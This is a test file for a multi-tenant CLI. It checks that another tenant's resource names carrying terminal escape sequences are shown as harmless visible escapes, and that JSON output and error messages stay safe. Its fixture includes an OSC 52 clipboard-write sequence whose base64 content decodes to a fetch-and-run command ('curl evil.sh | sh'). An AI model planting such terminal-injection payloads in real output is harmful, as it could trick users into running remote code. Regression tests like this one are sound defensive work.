/**
 * Issue 21: what the CLI prints comes from the server, and so from other tenants. A PUBLIC
 * resource named with clear-screen (`ESC [2J`), clipboard-write (OSC 52) and C1 CSI (0x9b)
 * sequences reaches another tenant's `keyward resources list` as visible text, never as a command
 * to its terminal; `--json` stays valid JSON that reads back as the very name; errors too.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cliHome, type CliHome } from '../support/cli-process.js';
import { startServerProcess, type ServerProcess } from '../support/server-process.js';

const HOSTILE = 'report\u001b[2J\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u009b31mdone\u202e';
/** Any control character but the line ends (ESC, BEL, CSI 0x9b…) or the right-to-left override: none may reach the terminal raw. */
const RAW_CONTROL = /(?!\n)[\p{Cc}\u202e]/u;

describe('keyward prints control characters as visible escapes', { timeout: 60_000 }, () => {
  let server: ServerProcess;
  let cli: CliHome;
  let env: Record<string, string>;
  let resourceId: string;
  let rootEnv: Record<string, string>;
  let environmentId: string;

  beforeAll(async () => {
    server = await startServerProcess();
    const rootKey = readFileSync(join(server.cwd, 'data', 'root.key'), 'utf8').trim();
    const call = async (key: string, path: string, body: unknown): Promise<Record<string, string>> => {
      const response = await fetch(`${server.url}${path}`, {
        method: 'POST',
        headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
      const answer = (await response.json()) as Record<string, string>;
      expect(response.status, JSON.stringify(answer)).toBe(201);
      return answer;
    };
    const keyOf = async (name: string): Promise<string> => {
      const tenant = await call(rootKey, '/v1/tenants', { name });
      const environment = await call(rootKey, '/v1/environments', { tenantId: tenant['id'], name: 'production' });
      environmentId = environment['id'] ?? '';
      return (
        (
          await call(rootKey, '/v1/keys', {
            environmentId: environment['id'],
            name: 'projects',
            kind: 'application',
            scopes: ['project:owner'],
          })
        )['key'] ?? ''
      );
    };
    const mallory = await keyOf('Mallory');
    resourceId =
      (await call(mallory, '/v1/resources', { type: 'project', name: HOSTILE, visibility: 'PUBLIC' }))['id'] ?? '';
    env = { KEYWARD_URL: server.url, KEYWARD_KEY: await keyOf('Alice') };
    rootEnv = { KEYWARD_URL: server.url, KEYWARD_KEY: rootKey };
    cli = cliHome();
  }, 120_000);
  afterAll(async () => {
    await server?.stop();
  });

  it("shows another tenant's PUBLIC resource name in `resources list` escaped, never as terminal commands", async () => {
    const listed = await cli.run(['resources', 'list'], env);
    expect(listed.status, listed.stderr).toBe(0);
    expect(listed.stdout).toContain(resourceId);
    expect(listed.stdout).not.toMatch(RAW_CONTROL);
    expect(listed.stdout).toContain('report\\x1b[2J\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x9b31mdone\\u202e');
  });

  it('shows it escaped in `resources show` too', async () => {
    const shown = await cli.run(['resources', 'show', resourceId], env);
    expect(shown.status, shown.stderr).toBe(0);
    expect(shown.stdout).not.toMatch(RAW_CONTROL);
    expect(shown.stdout).toMatch(/name\s+report\\x1b\[2J/);
  });

  it('keeps --json valid JSON carrying the very name, with no raw control character', async () => {
    const listed = await cli.run(['resources', 'list', '--json'], env);
    expect(listed.status, listed.stderr).toBe(0);
    expect(listed.stdout).not.toMatch(RAW_CONTROL);
    const page = JSON.parse(listed.stdout) as { items: { id: string; name: string }[] };
    expect(page.items.find((item) => item.id === resourceId)?.name).toBe(HOSTILE);
  });

  it("escapes what an error echoes back, the server's problem and the command line's own", async () => {
    const refused = await cli.run(
      ['keys', 'create', '--environment', environmentId, '--name', 'svc', '--ip-allow', 'x\u001b[2J'],
      rootEnv,
    );
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain('VALIDATION');
    expect(refused.stderr).toContain('x\\x1b[2J');
    expect(refused.stderr).not.toMatch(RAW_CONTROL);
    const unknown = await cli.run(['resources', 'lst\u001b]52;c;eA==\u0007'], env);
    expect(unknown.status).not.toBe(0);
    expect(unknown.stderr).toContain('lst\\x1b]52;c;eA==\\x07');
    expect(unknown.stderr).not.toMatch(RAW_CONTROL);
  });
});
